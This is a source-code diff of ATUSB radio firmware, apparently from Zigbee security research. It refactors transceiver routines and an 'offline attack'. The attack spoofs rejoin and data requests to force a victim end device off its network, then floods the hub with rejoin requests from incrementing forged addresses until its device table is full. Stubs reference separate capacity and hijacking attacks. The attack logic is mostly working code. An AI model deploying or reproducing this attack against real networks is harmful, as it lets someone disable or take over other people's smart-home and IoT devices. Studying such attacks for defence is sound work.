@@ -5,125 +5,114 @@
  * Copyright 2021 Jincheng Wang
  *
  */
+#include <util/atomic.h>
+
 #include "attack.h"
+#include "frame.h"
+#include "regs.h"
+#include "sched.h"
+#include "stats.h"
 
 extern uint8_t rejoin_full_flag;
 extern uint8_t beacon_request_flag;
 extern uint8_t tc_rejoin_request_flag;
 extern uint8_t data_request_flag;
 
-uint8_t count = 0;
-unsigned char length = 0;
-uint16_t FCF = 0;
-unsigned char seqno = 0;
-unsigned char cmd = 0;
 /********  Transciver Library ********/
 
 /**
  * @brief  set_rx_aack: Set the required registers used for RX_AACK mode, then transfer the state to RX_AACK
  * @note   
  * @param  aack_config: Config used to set RX_AACK
- * @retval None
+ * @retval 0 if the transceiver didn't get there in time
  */
-void set_rx_aack(rx_aack_config* aack_config)
+bool set_rx_aack(rx_aack_config* aack_config)
 {
 	// This function is mostly called when there is packets being sent. So first make sure that current packet has been sent out.
-	uint8_t reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-	while(reg_status != TRX_STATUS_TX_ARET_ON)
-	{
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
-	}
+	if (!aack_config->pass_ARET_check && !tx_wait_done())
+		return 0;
 	// In order to reply an ACK automaticlly, we need to first transit to PLL_ON, then transit into RX_AACK state
-	change_state(TRX_CMD_FORCE_PLL_ON);
-	reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-	while(reg_status != TRX_STATUS_PLL_ON) {
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
-	}
-	
-	// Here we need to configure address for AACK, then transist into AACK mode
-	reg_write(REG_SHORT_ADDR_0, aack_config->target_short_addr.addr_bytes[0]);
-	reg_write(REG_SHORT_ADDR_1, aack_config->target_short_addr.addr_bytes[1]);
-	reg_write(REG_PAN_ID_0, aack_config->target_pan_id.addr_bytes[0]);
-	reg_write(REG_PAN_ID_1, aack_config->target_pan_id.addr_bytes[1]);
+	if (!change_state_wait(TRX_CMD_FORCE_PLL_ON))
+		return 0;
 
+	// Here we need to configure address for AACK, then transist into AACK mode.
 	// Set registers used by RX_AACK. Please refer to Page 55 in AT86RF231 spec.
-	reg_write(0x0c, 0x00);
-	reg_write(0x17, 0x02); // AACK_ACK_TIME: Send ACK quickly. Default value for 0x17: 0x00
-	reg_write(0x2c, 0x38);
-	if(!aack_config->dis_ack) {
-		reg_write(0x2e, 0xc2);
-	}
-	else {
-		reg_write(0x2e, 0xc2 | AACK_DIS_ACK);
-	}
-	if(aack_config->pending) {
-		reg_write(0x2e, reg_read(0x2e) | AACK_SET_PD);
-	}
+	// Only the registers whose value changed since the last time are written.
+	uint8_t csma_seed_1 = 0xc2;
+	if (aack_config->dis_ack)
+		csma_seed_1 |= AACK_DIS_ACK;
+	if (aack_config->pending)
+		csma_seed_1 |= AACK_SET_PD;
+	const struct reg_set aack[] = {
+		{ REG_SHORT_ADDR_0,	aack_config->target_short_addr.addr_bytes[0] },
+		{ REG_SHORT_ADDR_1,	aack_config->target_short_addr.addr_bytes[1] },
+		{ REG_PAN_ID_0,		aack_config->target_pan_id.addr_bytes[0] },
+		{ REG_PAN_ID_1,		aack_config->target_pan_id.addr_bytes[1] },
+		{ REG_TRX_CTRL_2,	0x00 },
+		{ REG_XAH_CTRL_1,	0x02 },	// AACK_ACK_TIME: Send ACK quickly. Default value for 0x17: 0x00
+		{ REG_XAH_CTRL_0,	0x38 },
+		{ REG_CSMA_SEED_1,	csma_seed_1 },
+	};
+	reg_batch(aack, sizeof(aack)/sizeof(*aack));
 
-	// Transist to RX_AACK_ON mode
-	change_state(TRX_CMD_RX_AACK_ON);
-	reg_status = reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK;
-	// Finally, make sure the state transition is right
-	while((reg_status != TRX_CMD_RX_AACK_ON) && (reg_status != TRX_STATUS_BUSY_RX_AACK))
-	{
-		reg_status = reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK;
-		_delay_us(REG_CHANGE_DELAY);
-	}
+	// Frames RX_AACK drops still end up in the frame buffer, without us noticing
+	frame_overwritten(MAX_PSDU);
+
+	// Transist to RX_AACK_ON mode, receiving right away is fine too
+	return change_state_wait(TRX_CMD_RX_AACK_ON);
 }
 
 /**
- * @brief  send_zbee_cmd: This is the framework for ATUSB to send packets
- * @note   
+ * @brief  send_zbee_cmd_at: This is the framework for ATUSB to send packets
+ * @note   The frame is uploaded first, so only SLP_TR waits for the deadline.
+ *         There is no pause, so the RF interrupt can answer with it right away.
+ * @param  when:     	 Input: timer_read() tick to start transmitting at, 0 for now
  * @param  layer:    	 Input: 1: MAC-Layer Command 2: NWK-Layer Command 3: APS-Layer Command
  * @param  command:  	 Input: The command ID which we want to send
  * @param  security: 	 Input: Security enable flags used in the frame
  * @param  dst_addr: 	 Input: dest addr information
  * @param  src_addr: 	 Input: src  addr information
  * @param  aack_config:  Input: user-defined aack_config
- * @retval None
+ * @retval 0 if the transceiver got stuck on the way
  */
  
-void send_zbee_cmd(uint8_t command, uint8_t security,
+bool send_zbee_cmd_at(uint64_t when, uint8_t command, uint8_t security,
 				   ieee802154_addr* dst_addr, ieee802154_addr* src_addr,
 				   rx_aack_config* aack_config)
 {
+	uint8_t frame[FRAME_MAX];
+	uint8_t size;
+	// 0: Lay out the frame before touching the transceiver
+	size = frame_build(frame, command, 0xff, dst_addr, src_addr);
+	if (!size)
+		return 0;
 	led(1);
-	DELAY_1;
-	uint8_t reg_status = 0;
 	// 1: Change Transciver state to TRX_CMD_FORCE_PLL_ON
-	change_state(TRX_CMD_FORCE_PLL_ON);
-	while((reg_read(REG_TRX_STATUS) & TRX_STATUS_MASK) != TRX_STATUS_PLL_ON) {
-		_delay_us(REG_CHANGE_DELAY);
-	}
-	// 2: Send Packets
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	// Finally we applied hard-coded methods.
-	switch (command) {
-		case ZBEE_MAC_CMD_DATA_RQ:
-			send_data_request(security, dst_addr, src_addr);
-			break;
-		case ZBEE_NWK_CMD_REJOIN_RQ :
-			send_rejoin_request(security, dst_addr, src_addr);
-			break;
-		default :
-			break;
-	}
-	spi_end();
+	if (!change_state_wait(TRX_CMD_FORCE_PLL_ON))
+		return 0;
+	// 2: Upload what the frame buffer doesn't hold yet
+	frame_stage(frame, size);
 	// 3: Send the packet
-	change_state(TRX_STATUS_TX_ARET_ON);
-	while(reg_status != TRX_STATUS_TX_ARET_ON)
+	if (!change_state_wait(TRX_CMD_TX_ARET_ON))
+		return 0;
+	// 4: Start it now, or exactly at the deadline
+	if (when)
 	{
-		reg_status = reg_read(REG_TRX_STATUS & TRX_STATUS_MASK);
-		_delay_us(REG_CHANGE_DELAY);
+		timer_at(when, slp_tr);
+		timer_wait(slp_tr);
 	}
-	slp_tr();
-	// 4: Determine and configure the afterwards transciver mode
+	else
+	{
+		slp_tr();
+	}
+	// ATUSB_STATS may clear the counters from the USB interrupt meanwhile
+	ATOMIC_BLOCK(ATOMIC_RESTORESTATE)
+		stats.injected++;
+	// 5: Determine and configure the afterwards transciver mode
 	if (aack_config->aack_flag)
 	{
-		set_rx_aack(aack_config);
+		if (!set_rx_aack(aack_config))
+			return 0;
 	}
 	else
 	{
@@ -132,110 +121,87 @@ void send_zbee_cmd(uint8_t command, uint8_t security,
 		// change_state(TRX_CMD_PLL_ON);
 	}
 	led(0);
-	DELAY_1;
+	return 1;
 }
 
-static uint8_t spi_send_blocks(void *data, uint8_t size)
+bool send_zbee_cmd(uint8_t command, uint8_t security,
+				   ieee802154_addr* dst_addr, ieee802154_addr* src_addr,
+				   rx_aack_config* aack_config)
 {
-	uint8_t byte_count = 0 ;
-	char* pdata = (char*)data;
-	for(; byte_count < size; byte_count ++) {
-		spi_send(*(pdata+byte_count));
-	}
-
-	assert(byte_count == size);
-	return byte_count;
+	return send_zbee_cmd_at(0, command, security, dst_addr, src_addr, aack_config);
 }
 
 /********  END of Transciver Library *******/
 
-/********  Command Library *******/
-
-void send_data_request(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
-{
-	count = 0;
-	length = 10 + 2;
-	FCF = 0x8863;
-	seqno = 0xff;
-	cmd = 0x04;
-
-	count += spi_send_blocks(&length, sizeof(length));
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&dst_addr->pan, sizeof(dst_addr->pan));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-	count += spi_send_blocks(&cmd, sizeof(cmd));
 
-	assert(count == length - 1);
-}
-
-// NWK Layer Command
-void send_rejoin_request(uint8_t security, ieee802154_addr* dst_addr, ieee802154_addr* src_addr)
+// The offline attack keeps a visible pause before and after each untimed frame
+static bool send_zbee_cmd_paced(uint8_t command, uint8_t security,
+				   ieee802154_addr* dst_addr, ieee802154_addr* src_addr,
+				   rx_aack_config* aack_config)
 {
-	count = 0;
-	length = 27 + 2;
-	FCF = 0x8861;		
-	seqno = 0xff;
-
-	uint16_t NWK_FCF = 0x1009;
-	uint8_t radius = 0x01;
-	uint8_t nwk_seq = 0xff;
-
-	uint8_t capability_info = 0x80;
-	if (src_addr->device_type < 2)
-	{
-		// Here we send rejoin request in represnetative as a Full-Function Device
-		capability_info |= 0x02;
-	}
-	if (src_addr->rx_when_idle)
-	{
-		capability_info |= 0x08;
-	}
-
-	cmd = 0x06;
-
-	count += spi_send_blocks(&length, sizeof(length));
-
-	// MAC Layer
-	count += spi_send_blocks(&FCF, sizeof(FCF));
-	count += spi_send_blocks(&seqno, sizeof(seqno));
-	count += spi_send_blocks(&dst_addr->pan, sizeof(dst_addr->pan));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-
-	// NWK Layer
-	count += spi_send_blocks(&NWK_FCF, sizeof(NWK_FCF));
-	count += spi_send_blocks(&dst_addr->short_addr, sizeof(dst_addr->short_addr));
-	count += spi_send_blocks(&src_addr->short_addr, sizeof(src_addr->short_addr));
-	count += spi_send_blocks(&radius, sizeof(radius));
-	count += spi_send_blocks(&nwk_seq, sizeof(nwk_seq));
-	count += spi_send_blocks(&src_addr->long_addr, sizeof(src_addr->long_addr));
-
-	// NWK Payload
-	count += spi_send_blocks(&cmd, sizeof(cmd));
-	count += spi_send_blocks(&capability_info, sizeof(capability_info));
-
-	assert(count == length - 1);
-
+	led(1);
+	DELAY_1;
+	if (!send_zbee_cmd(command, security, dst_addr, src_addr, aack_config))
+		return 0;
+	DELAY_1;
+	return 1;
 }
 
 
-/********  END of Command Library *******/
-
 /********  Attack-Specific Functions *******/
 uint8_t capacity_attack(ieee802154_addr* hub_addr, uint64_t random_addr, uint8_t type)
 {
 	// Please check attack_12.c
 	return 0;
 }
+void capacity_attack_start(ieee802154_addr* hub_addr, uint64_t random_addr, uint8_t type, void (*done)(uint8_t res))
+{
+	// Please check attack_12.c
+	done(0);
+}
 uint8_t hijacking_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
 {
 	// Please check attac_14.c
 	return 0;
 }
-uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
+// State of the offline attack between its steps
+static struct offline {
+	struct task task;
+	ieee802154_addr *hub_addr;
+	ieee802154_addr *victim_addr;
+	uint64_t random_addr;
+	ieee802154_addr ghost_addr;
+	rx_aack_config aack_config;
+	void (*done)(uint8_t res);
+} offline;
+
+static void offline_rejoin(void *user)
 {
+	struct offline *c = user;
+
+	// The rejoin_full_flag is set by classify_frame()
+	if (rejoin_full_flag)
+	{
+		c->done(1);
+		return;
+	}
+	c->aack_config.target_short_addr.addr = c->ghost_addr.short_addr;
+	send_zbee_cmd_paced(ZBEE_NWK_CMD_REJOIN_RQ, 0, c->hub_addr, &c->ghost_addr, &c->aack_config);
+	if (c->ghost_addr.rx_when_idle == 0)
+	{
+		send_zbee_cmd_paced(ZBEE_MAC_CMD_DATA_RQ, 0, c->hub_addr, &c->ghost_addr, &c->aack_config);
+	}
+	c->ghost_addr.long_addr += 1;
+	c->ghost_addr.short_addr += 1;
+	task_in(&c->task, REJOIN_REQUEST_INTERVAL * 1000UL);
+}
+
+static void offline_trigger(void *user)
+{
+	struct offline *c = user;
+	ieee802154_addr* hub_addr = c->hub_addr;
+	ieee802154_addr* victim_addr = c->victim_addr;
+
 	/** 1. Trigger ZED to leave and rejoin. **/
 	rx_aack_config aack_config = {};
 	aack_config.aack_flag = 1;
@@ -250,15 +216,17 @@ uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr,
 		{
 			if (!victim_addr->rx_when_idle)
 			{
-				send_zbee_cmd(ZBEE_NWK_CMD_REJOIN_RQ, 0, hub_addr, victim_addr, &aack_config);
-				_delay_us(100);
+				// Poll 100 us after the rejoin request has ended, whatever the upload takes.
+				// No pause comes between them, only after the pair.
+				send_zbee_cmd_at(timer_read(), ZBEE_NWK_CMD_REJOIN_RQ, 0, hub_addr, victim_addr, &aack_config);
 				aack_config.aack_flag = 0;
-				send_zbee_cmd(ZBEE_MAC_CMD_DATA_RQ, 0, hub_addr, victim_addr, &aack_config);
+				send_zbee_cmd_at(timer_read() + 100 * TIMER_TICKS_PER_US, ZBEE_MAC_CMD_DATA_RQ, 0, hub_addr, victim_addr, &aack_config);
+				DELAY_1;
 			}
 			else
 			{
 				aack_config.aack_flag = 0;
-				send_zbee_cmd(ZBEE_NWK_CMD_REJOIN_RQ, 0, hub_addr, victim_addr, &aack_config);
+				send_zbee_cmd_paced(ZBEE_NWK_CMD_REJOIN_RQ, 0, hub_addr, victim_addr, &aack_config);
 				// _delay_us(500);
 				// send_zbee_cmd(ZBEE_MAC_CMD_DATA_RQ, 0, hub_addr, victim_addr, &aack_config);
 			}
@@ -270,26 +238,61 @@ uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr,
 	}
 	/** 2. Launch capacity attack again **/
 
-	ieee802154_addr ghost_addr = *victim_addr;
-	ghost_addr.short_addr = 0x1345;
-	ghost_addr.long_addr = random_addr;
-	ghost_addr.rx_when_idle = 1;
-	aack_config.aack_flag = 1;
+	c->ghost_addr = *victim_addr;
+	c->ghost_addr.short_addr = 0x1345;
+	c->ghost_addr.long_addr = c->random_addr;
+	c->ghost_addr.rx_when_idle = 1;
+	c->aack_config = aack_config;
+	c->aack_config.aack_flag = 1;
 	rejoin_full_flag = 0;
-	while (!rejoin_full_flag)
-	{
-		aack_config.target_short_addr.addr = ghost_addr.short_addr;
-		send_zbee_cmd(ZBEE_NWK_CMD_REJOIN_RQ, 0, hub_addr, &ghost_addr, &aack_config);
-		if (ghost_addr.rx_when_idle == 0)
-		{
-			send_zbee_cmd(ZBEE_MAC_CMD_DATA_RQ, 0, hub_addr, &ghost_addr, &aack_config);
-		}
-		ghost_addr.long_addr += 1;
-		ghost_addr.short_addr += 1;
-		// _delay_ms(REJOIN_REQUEST_INTERVAL);
-	}
-	
-	return 1;
+	c->task.fn = offline_rejoin;
+	task_in(&c->task, 0);
+}
+
+/**
+ * @brief  Start the offline attack as scheduler tasks
+ * @note   The rejoin requests of step 2 are paced by REJOIN_REQUEST_INTERVAL
+ * @param  hub_addr:    The target hub's information.
+ * @param  victim_addr: The ZED we take offline.
+ * @param  random_addr
+ * @param  done: Called with 1 once the hub's table is full again
+ * @retval None
+ */
+void offline_attack_start(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr, void (*done)(uint8_t res))
+{
+	struct offline *c = &offline;
+
+	task_cancel(&c->task);
+	c->hub_addr = hub_addr;
+	c->victim_addr = victim_addr;
+	c->done = done;
+	c->random_addr = random_addr;
+	c->task.fn = offline_trigger;
+	c->task.user = c;
+	task_in(&c->task, 0);
+}
+
+void attack_stop(void)
+{
+	task_cancel(&offline.task);
+}
+
+static uint8_t attack_result;
+static uint8_t attack_finished;
+
+static void attack_done(uint8_t res)
+{
+	attack_result = res;
+	attack_finished = 1;
+}
+
+uint8_t offline_attack(ieee802154_addr* hub_addr, ieee802154_addr* victim_addr, uint64_t random_addr)
+{
+	attack_finished = 0;
+	offline_attack_start(hub_addr, victim_addr, random_addr, attack_done);
+	while (!attack_finished)
+		sched_poll();
+	return attack_result;
 }
 
 /********  END of Attack-Specific Library *******/
\ No newline at end of file